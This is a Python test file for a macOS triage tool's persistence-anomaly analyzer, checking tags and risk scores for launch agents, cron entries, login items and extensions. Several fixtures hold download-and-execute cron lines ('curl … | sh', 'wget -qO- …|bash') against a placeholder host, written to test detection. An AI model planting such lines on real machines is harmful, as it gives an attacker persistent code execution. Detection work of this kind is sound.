"""Tests for triagekit.analysis.persistence -- persistence anomalies."""

from __future__ import annotations

from datetime import timedelta

import pytest

from triagekit.analysis.persistence import PersistenceAnomalyAnalyzer


@pytest.fixture
def analyzer(now) -> PersistenceAnomalyAnalyzer:
    return PersistenceAnomalyAnalyzer(clock=lambda: now)


def _rfc3339(value) -> str:
    return value.strftime("%Y-%m-%dT%H:%M:%SZ")


class TestLaunchAgents:
    """Launch agents and daemons."""

    def test_recent_plist_in_tmp(self, analyzer, make_artifact, now) -> None:
        artifact = make_artifact(
            "user_launch_agent",
            {"path": "/tmp/x.plist", "mod_time": _rfc3339(now - timedelta(hours=1))},
        )
        analyzer.analyze([artifact])
        assert artifact.tags == ["recently_modified", "plist_in_tmp"]
        assert artifact.risk_score == 55

    def test_old_modification_not_recent(self, analyzer, make_artifact, now) -> None:
        artifact = make_artifact(
            "user_launch_agent",
            {"path": "/Users/a/Library/LaunchAgents/x.plist", "mod_time": _rfc3339(now - timedelta(hours=25))},
        )
        analyzer.analyze([artifact])
        assert artifact.risk_score == 0

    def test_fractional_mod_time(self, analyzer, make_artifact, now) -> None:
        mod_time = (now - timedelta(minutes=5)).strftime("%Y-%m-%dT%H:%M:%S.123456+00:00")
        artifact = make_artifact("user_launch_agent", {"mod_time": mod_time})
        analyzer.analyze([artifact])
        assert artifact.tags == ["recently_modified"]

    def test_unparseable_mod_time_ignored(self, analyzer, make_artifact) -> None:
        artifact = make_artifact("user_launch_agent", {"mod_time": "yesterday"})
        analyzer.analyze([artifact])
        assert artifact.risk_score == 0

    def test_non_apple_system_daemon(self, analyzer, make_artifact) -> None:
        artifact = make_artifact(
            "system_launch_daemon",
            {"name": "com.evil.updater", "path": "/Library/LaunchDaemons/com.evil.updater.plist"},
        )
        analyzer.analyze([artifact])
        assert artifact.tags == ["non_apple_system_plist"]
        assert artifact.risk_score == 10

    def test_apple_system_agent_clean(self, analyzer, make_artifact) -> None:
        artifact = make_artifact(
            "system_launch_agent",
            {"name": "com.apple.Finder", "path": "/System/Library/LaunchAgents/com.apple.Finder.plist"},
        )
        analyzer.analyze([artifact])
        assert artifact.risk_score == 0

    def test_user_agent_name_not_checked(self, analyzer, make_artifact) -> None:
        artifact = make_artifact("user_launch_agent", {"name": "com.vendor.helper"})
        analyzer.analyze([artifact])
        assert artifact.risk_score == 0


class TestCron:
    """Cron entries."""

    def test_curl_pipe_sh_from_tmp(self, analyzer, make_artifact) -> None:
        artifact = make_artifact(
            "user_crontab", {"entry": "*/5 * * * * CURL http://x/a | sh > /tmp/log"}
        )
        analyzer.analyze([artifact])
        assert artifact.tags == ["cron_curl_pipe_sh", "cron_tmp_path"]
        assert artifact.risk_score == 50

    def test_wget_pipe_bash(self, analyzer, make_artifact) -> None:
        artifact = make_artifact("system_cron", {"entry": "@reboot wget -qO- http://x|bash"})
        analyzer.analyze([artifact])
        assert artifact.tags == ["cron_curl_pipe_sh"]

    def test_curl_without_pipe(self, analyzer, make_artifact) -> None:
        artifact = make_artifact("user_crontab", {"entry": "0 * * * * curl -o out http://x"})
        analyzer.analyze([artifact])
        assert artifact.risk_score == 0


class TestLoginItemsAndExtensions:
    """Login items and library extensions."""

    def test_login_item_content_tmp(self, analyzer, make_artifact) -> None:
        artifact = make_artifact("login_item_btm", {"content": "exec /tmp/agent"})
        analyzer.analyze([artifact])
        assert artifact.tags == ["login_item_tmp_path"]
        assert artifact.risk_score == 25

    def test_recent_extension(self, analyzer, make_artifact, now) -> None:
        artifact = make_artifact(
            "library_extension", {"mod_time": _rfc3339(now - timedelta(hours=2))}
        )
        analyzer.analyze([artifact])
        assert artifact.tags == ["recently_installed_extension"]
        assert artifact.risk_score == 15

    def test_unmatched_type_scores_zero(self, analyzer, make_artifact, now) -> None:
        artifact = make_artifact(
            "recent_file", {"path": "/tmp/x", "mod_time": _rfc3339(now)}
        )
        analyzer.analyze([artifact])
        assert artifact.risk_score == 0
